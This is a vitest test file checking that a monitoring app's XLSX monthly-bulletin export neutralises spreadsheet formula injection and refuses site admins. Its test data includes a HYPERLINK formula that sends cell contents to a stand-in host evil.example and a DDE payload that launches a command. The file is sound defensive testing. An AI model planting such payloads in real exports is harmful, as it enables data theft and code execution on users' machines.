import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chinaDay } from '../../src/calendar/chinaTime'
import { xlsxValue } from '../../src/exports/xlsx'
import { runDailyProbe } from '../../src/monitoring/dailyRun'
import { clientAs, createColumn, createSite, createUser } from '../support/fixtures'
import { startTestServer, type TestServer } from '../support/payload'

/**
 * XLSX exports neutralise spreadsheet formulas (=, +, -, @, tab, CR) in every string cell, as the CSV exports do:
 * a real 月度通报 downloaded over HTTP, whose sites and columns are named like formulas, holds them as text.
 */
let server: TestServer
const evil = [
  '=HYPERLINK("https://evil.example/?x="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
]

beforeAll(async () => {
  server = await startTestServer()
}, 120_000)
afterAll(async () => server?.close())

describe('xlsxValue', () => {
  it('prefixes formula starts with an apostrophe and leaves numbers alone', () => {
    for (const text of evil) expect(xlsxValue(text)).toBe(`'${text}`)
    expect(xlsxValue(-3)).toBe(-3)
    expect(xlsxValue('宁夏')).toBe('宁夏')
  })
})

describe('the monthly bulletin XLSX over HTTP', () => {
  it('a site and a column titled like formulas come out as plain text cells', async () => {
    const { payload } = server
    const siteName = evil[0]!
    const site = await createSite(payload, { name: siteName, level: 'city' })
    for (const [i, title] of evil.entries())
      await createColumn(payload, site, { title, slug: `evil-${i}`, kind: 'other' })
    const now = new Date()
    await runDailyProbe(payload, { now, externalBudgetMs: 1000 })
    const supervisor = await createUser(payload, { roles: ['supervisor'] })
    const sup = await clientAs(server.url, supervisor)
    const month = chinaDay(now).slice(0, 7)
    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx&month=${month}`, {
      headers: { Authorization: `JWT ${sup.token}` },
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('spreadsheetml')
    const body = Buffer.from(await response.arrayBuffer())

    const { default: ExcelJS } = await import('exceljs')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(body as never)
    const texts: string[] = []
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          // No cell of the export is a formula, and no text cell starts like one.
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy()
          if (cell.type === ExcelJS.ValueType.String) {
            texts.push(cell.value as string)
            expect(
              /^[=+\-@\t\r]/.test(cell.value as string),
              `${sheet.name}!${cell.address}: ${JSON.stringify(cell.value)}`,
            ).toBe(false)
          }
        }),
      )
    }
    const summary = workbook.getWorksheet('汇总')!
    const siteRow = summary.getRows(1, summary.rowCount)!.find((row) => row.getCell(3).value === site.siteCode)!
    expect(siteRow.getCell(2).value).toBe(`'${siteName}`)
    expect(siteRow.getCell(2).type).toBe(ExcelJS.ValueType.String)
    // The five empty columns are listed by their (neutralised) titles on the problem sheet.
    // (XML turns a stored CR into LF on reading.)
    const read = texts.map((t) => t.replace(/\r/g, '\n'))
    for (const title of evil) expect(read).toContain(`'${title}`.replace(/\r/g, '\n'))
  }, 120_000)

  it('is the general office’s: a site admin is refused', async () => {
    const { payload } = server
    const site = await createSite(payload)
    const admin = await createUser(payload, { memberships: [{ site, roles: ['site-admin'] }] })
    const c = await clientAs(server.url, admin)
    const response = await fetch(`${server.url}/api/site-health-reports/bulletin?format=xlsx`, {
      headers: { Authorization: `JWT ${c.token}` },
    })
    expect(response.status).toBe(403)
  })
})
